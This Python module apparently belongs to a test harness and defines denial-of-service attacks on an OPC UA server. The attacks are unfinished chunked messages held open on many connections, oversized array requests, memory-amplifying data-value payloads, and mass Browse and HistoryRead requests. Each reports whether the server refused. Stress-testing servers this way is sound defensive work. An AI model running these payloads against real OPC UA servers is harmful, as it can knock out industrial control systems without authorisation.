"""Attacks by the size or contents of one message."""

import struct
import time
from collections.abc import Callable

from asyncua import ua
from raw_client import CHUNK, RawClient, Refused
from target import LEVEL, Target, refused_with

OBJECTS = ua.NodeId(85, 0)


def unfinished_messages(connections: int, size: int) -> Callable[[Target], str]:
    """`size` bytes of a Read on each connection, in chunks of which none is the last."""

    def attack(target: Target) -> str:
        clients = [target.client() for _ in range(connections)]
        open_ones = set(clients)
        start = struct.pack("<BBH", 1, 0, 631).ljust(CHUNK, b"\0")

        def send_one_each() -> None:
            for client in list(open_ones):
                try:
                    client.send_chunk(start, final=False)
                except Refused:
                    open_ones.remove(client)

        for _ in range(size // CHUNK):
            if open_ones:
                send_one_each()
        time.sleep(1)  # the server reads what the kernel has taken, and closed connections are noticed
        send_one_each()
        for client in clients:
            client.close()
        return f"{connections - len(open_ones)} of {connections} connections closed"

    return attack


def one_body(body_for: Callable[[RawClient], bytes]) -> Callable[[Target], str]:
    """One request of a new client, with this body."""

    def attack(target: Target) -> str:
        client = target.client()
        body = body_for(client)
        result = refused_with(lambda: (client.send_body(body), client.answer()))
        client.close()
        return result

    return attack


def large_request(type_id: int, element: bytes, size: int = 16 << 20) -> Callable[[Target], str]:
    """One request whose array contains the element over and over."""
    count = size // len(element)
    return one_body(
        lambda client: struct.pack("<BBH", 1, 0, type_id)
        + client.header()
        + struct.pack("<i", count)
        + element * count
    )


def values_in_values(size: int) -> Callable[[Target], str]:
    """A write of one array of empty data values, which take 80 times as much memory as bytes."""
    variable = struct.pack("<i", 1) + struct.pack("<BBHIi", 1, 0, 2267, 13, -1)
    values = struct.pack("<BBi", 1, 0x80 | 23, size) + b"\0" * size
    return one_body(
        lambda client: struct.pack("<BBH", 1, 0, 673) + client.header() + variable + values
    )


def values_in_header(size: int) -> Callable[[Target], str]:
    """The same in a part of the request's header that the standard leaves to extensions."""
    values = struct.pack("<i", size) + b"\0" * size
    extension = struct.pack("<BBHBi", 1, 0, 658, 1, len(values)) + values  # HistoryData
    no_extension = b"\0\0\0"
    return one_body(
        lambda client: struct.pack("<BBH", 1, 0, 631)
        + client.header().removesuffix(no_extension)
        + extension
        + struct.pack("<dii", 0, 0, 0)
    )


def browse_often(target: Target) -> str:
    client, request = target.client(), ua.BrowseRequest()
    one = ua.BrowseDescription(NodeId=OBJECTS, ReferenceTypeId=ua.NodeId(33, 0))
    request.Parameters.NodesToBrowse = [one] * 2000
    result = refused_with(lambda: client.request(request))
    client.close()
    return result


def history_of_many(target: Target) -> str:
    client, request = target.client(), ua.HistoryReadRequest()
    request.Parameters.HistoryReadDetails = ua.ReadRawModifiedDetails(IsReadModified=False)
    request.Parameters.NodesToRead = [ua.HistoryReadValueId(NodeId=LEVEL)] * 4000
    result = refused_with(lambda: client.request(request))
    client.close()
    return result
